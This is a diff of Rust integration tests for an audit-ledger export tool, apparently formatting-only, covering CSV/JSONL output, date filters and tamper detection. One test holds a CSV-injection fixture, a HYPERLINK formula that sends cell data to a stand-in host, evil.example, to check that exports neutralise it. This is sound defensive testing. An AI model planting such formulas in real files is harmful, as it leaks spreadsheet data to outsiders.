@@ -128,7 +128,10 @@ impl Fixture {
 
     /// The record file of `seq` (directory backend).
     fn record_file(&self, seq: u64) -> PathBuf {
-        let shard = self.path().join("ledger/records").join(format!("{:03}", seq / 1000));
+        let shard = self
+            .path()
+            .join("ledger/records")
+            .join(format!("{:03}", seq / 1000));
         std::fs::read_dir(&shard)
             .expect("shard")
             .map(|e| e.expect("entry").path())
@@ -293,7 +296,12 @@ fn assert_rows(csv_text: &str, jsonl_text: &str, expected_rows: &[serde_json::Va
     assert_eq!(header, COLUMNS);
     assert_eq!(rows.len(), expected_rows.len(), "CSV row count");
     for (row, want) in rows.iter().zip(expected_rows) {
-        assert_eq!(row, &expected_cells(want), "CSV row of record {}", want["seq"]);
+        assert_eq!(
+            row,
+            &expected_cells(want),
+            "CSV row of record {}",
+            want["seq"]
+        );
     }
     let lines = parse_jsonl(jsonl_text);
     assert_eq!(lines.len(), expected_rows.len(), "JSONL line count");
@@ -357,10 +365,7 @@ fn rows_match_the_records(backend: Backend) {
     assert!(distinct(10).contains("EVAL-THRESHOLD;PII-RETENTION"));
     // RFC 4180 line ends.
     assert!(csv_run.stdout.starts_with("seq,time,"));
-    assert_eq!(
-        csv_run.stdout.matches("\r\n").count() as u64,
-        GENERATED + 1
-    );
+    assert_eq!(csv_run.stdout.matches("\r\n").count() as u64, GENERATED + 1);
 }
 
 #[test]
@@ -427,7 +432,11 @@ fn csv_cells_are_spreadsheet_safe_and_rfc4180_round_trips() {
     let jsonl_run = f.export(&["--format", "jsonl"]);
     jsonl_run.exit(0);
     let want = expected(1, &hostile_input(), true);
-    assert_rows(&csv_run.stdout, &jsonl_run.stdout, std::slice::from_ref(&want));
+    assert_rows(
+        &csv_run.stdout,
+        &jsonl_run.stdout,
+        std::slice::from_ref(&want),
+    );
 
     // The neutralised cells, spelled out.
     let (_, rows) = parse_csv(&csv_run.stdout);
@@ -460,7 +469,10 @@ fn csv_cells_are_spreadsheet_safe_and_rfc4180_round_trips() {
         .contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""));
     // JSONL carries the values as recorded.
     let line = &parse_jsonl(&jsonl_run.stdout)[0];
-    assert_eq!(line["name"], "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
+    assert_eq!(
+        line["name"],
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
+    );
     assert_eq!(line["approvers"], serde_json::json!(["@evil", "bob"]));
 }
 
@@ -514,14 +526,20 @@ fn date_filters_keep_both_boundaries_exactly() {
         [1, 2, 3]
     );
     assert_eq!(
-        seqs(&f.export(&["--since", "2026-01-31T13:00:00+01:00", "--until", "2026-01-31T12:00:01Z"])),
+        seqs(&f.export(&[
+            "--since",
+            "2026-01-31T13:00:00+01:00",
+            "--until",
+            "2026-01-31T12:00:01Z"
+        ])),
         [3, 4]
     );
     assert_eq!(seqs(&f.export(&["--since", "2026-02-01"])), [7, 8]);
     assert_eq!(seqs(&f.export(&["--until", "2026-01-30"])), [1]);
     // Unusable dates stop before anything is read or written.
     let bad = f.export(&["--since", "31/01/2026"]);
-    bad.exit(2).stderr_has("--since \"31/01/2026\" is not a date");
+    bad.exit(2)
+        .stderr_has("--since \"31/01/2026\" is not a date");
     assert!(bad.stdout.is_empty());
     f.export(&["--since", "2026-02-01", "--until", "2026-01-31"])
         .exit(2)
@@ -565,10 +583,20 @@ fn service_and_environment_filters() {
         seqs(&f.export(&["--environment", "production"])),
         want(&|i| env(i, "production"))
     );
-    let both = f.export(&["--service", "fraud-scorer", "--environment", "dev", "-f", "jsonl"]);
+    let both = f.export(&[
+        "--service",
+        "fraud-scorer",
+        "--environment",
+        "dev",
+        "-f",
+        "jsonl",
+    ]);
     both.exit(0);
     let lines = parse_jsonl(&both.stdout);
-    let got: Vec<u64> = lines.iter().map(|l| l["seq"].as_u64().expect("seq")).collect();
+    let got: Vec<u64> = lines
+        .iter()
+        .map(|l| l["seq"].as_u64().expect("seq"))
+        .collect();
     assert_eq!(got, want(&|i| service(i, "fraud-scorer") && env(i, "dev")));
     assert!(!got.is_empty());
     assert!(seqs(&f.export(&["--service", "nope"])).is_empty());
@@ -582,7 +610,10 @@ fn service_and_environment_filters() {
 fn empty_ledger_exports_a_header_only_csv_and_an_empty_jsonl() {
     let f = Fixture::new(Backend::Dir);
     let csv_run = f.export(&[]);
-    csv_run.exit(0).stderr_has("INTACT").stderr_has("0 rows of 0 records");
+    csv_run
+        .exit(0)
+        .stderr_has("INTACT")
+        .stderr_has("0 rows of 0 records");
     assert_eq!(csv_run.stdout, format!("{}\r\n", COLUMNS.join(",")));
     let jsonl_run = f.export(&["--format", "jsonl"]);
     jsonl_run.exit(0);
@@ -713,7 +744,8 @@ fn tampered_record_git_export_is_written_flagged_and_exits_1() {
         .expect("ref");
 
     let run = f.export(&[]);
-    run.stderr_has("bad_signature").stderr_has("history_record_changed");
+    run.stderr_has("bad_signature")
+        .stderr_has("history_record_changed");
     assert_only_unverified(&run, 12, &[5]);
 }
 
@@ -933,20 +965,31 @@ fn bundle_is_verified_by_following_verify_md_and_fails_after_tampering() {
     unpack(&bundle, &tampered);
     let lines: Vec<String> = envelopes.lines().map(str::to_owned).collect();
     let mut edited = lines.clone();
-    edited[9] = String::from_utf8(tamper_envelope(lines[9].as_bytes(), set_decision_pass))
-        .expect("utf8");
+    edited[9] =
+        String::from_utf8(tamper_envelope(lines[9].as_bytes(), set_decision_pass)).expect("utf8");
     std::fs::write(tampered.join("envelopes.jsonl"), edited.join("\n") + "\n").expect("write");
     let results = run_blocks(&blocks, &tampered);
     for (step, (code, log)) in results.iter().enumerate().take(4) {
-        assert_ne!(*code, 0, "step {} passed on a tampered envelope:\n{log}", step + 1);
+        assert_ne!(
+            *code,
+            0,
+            "step {} passed on a tampered envelope:\n{log}",
+            step + 1
+        );
     }
     assert!(results[1].1.contains("bad_signature"), "{}", results[1].1);
     assert!(
-        results[2].1.contains("record 10: the signature does NOT verify"),
+        results[2]
+            .1
+            .contains("record 10: the signature does NOT verify"),
         "{}",
         results[2].1
     );
-    assert!(results[3].1.contains("record 11: expected seq 11"), "{}", results[3].1);
+    assert!(
+        results[3].1.contains("record 11: expected seq 11"),
+        "{}",
+        results[3].1
+    );
     assert_eq!(results[4].0, 0, "{}", results[4].1);
 
     // Drop the last envelope: the checksums, relgate and the checkpoint count catch it (the
